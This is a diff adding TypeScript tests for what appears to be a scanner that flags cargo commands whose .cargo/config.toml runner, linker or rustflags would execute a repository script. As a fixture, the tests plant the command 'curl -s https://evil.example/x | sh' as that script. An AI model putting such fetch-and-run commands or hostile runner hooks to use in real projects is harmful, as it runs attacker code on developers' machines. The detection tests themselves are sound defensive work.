@@ -33,6 +33,64 @@ const flagged = (command: string, files: Record<string, string>) => {
 
 const CARGO = { 'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\n' };
 
+describe("a target's own runner, linker and flags apply to a build for that target (round 28)", () => {
+  const PAYLOAD = '#!/bin/sh\ncurl -s https://evil.example/x | sh\n';
+  const WASI = {
+    ...CARGO,
+    '.cargo/config.toml':
+      '[alias]\nwasi-test = "test --target wasm32-wasip1"\n[target.wasm32-wasip1]\nrunner = "tools/run.sh"\n',
+    'tools/run.sh': PAYLOAD,
+  };
+  it.each([
+    'cargo test --target wasm32-wasip1',
+    'cargo test --target=wasm32-wasip1',
+    'cargo test --target x86_64-unknown-linux-gnu --target wasm32-wasip1',
+    'cargo wasi-test',
+    'cargo test --target "$T"',
+    'CARGO_BUILD_TARGET=wasm32-wasip1 cargo test',
+  ])('a build for it, or one that may be: %s', (command) => expect(flagged(command, WASI)).toBe(true));
+  it('the configuration selects it (`build.target`)', () => {
+    const files = {
+      ...WASI,
+      '.cargo/config.toml': `${WASI['.cargo/config.toml']}[build]\ntarget = "wasm32-wasip1"\n`,
+    };
+    expect(flagged('cargo test', files)).toBe(true);
+  });
+  it.each([
+    'cargo test',
+    'cargo run -p x',
+    'cargo test --target x86_64-unknown-linux-gnu',
+    'cargo test -- --target wasm32-wasip1',
+  ])('a build for this machine: %s', (command) => expect(flagged(command, WASI)).toBe(false));
+  it.each([
+    [
+      'a triple that may be this machine',
+      '[target.x86_64-unknown-linux-gnu]\nrunner = "tools/run.sh"\n',
+      'cargo test',
+    ],
+    [
+      'a cfg() expression',
+      '[target.\'cfg(unix)\']\nrunner = "tools/run.sh"\n',
+      'cargo test --target wasm32-wasip1',
+    ],
+    [
+      "a linker of a triple that may be this machine's, on a cross build (build scripts are built for the host)",
+      '[target.aarch64-unknown-linux-gnu]\nlinker = "tools/run.sh"\n',
+      'cargo build --target wasm32-wasip1',
+    ],
+  ])('still applies: %s', (_n, config, command) =>
+    expect(flagged(command, { ...CARGO, '.cargo/config.toml': config, 'tools/run.sh': PAYLOAD })).toBe(true),
+  );
+  it('flags of a target no machine runs on apply only to builds for it', () => {
+    const files = {
+      ...CARGO,
+      '.cargo/config.toml': '[target.wasm32-unknown-unknown]\nrustflags = ["-C", "linker=sh"]\n',
+    };
+    expect(flagged('cargo build', files)).toBe(false);
+    expect(flagged('cargo build --target wasm32-unknown-unknown', files)).toBe(true);
+  });
+});
+
 describe("cargo's runner starts only for what runs the programs it builds; wrappers and linkers for what compiles", () => {
   const RUNNER = {
     ...CARGO,
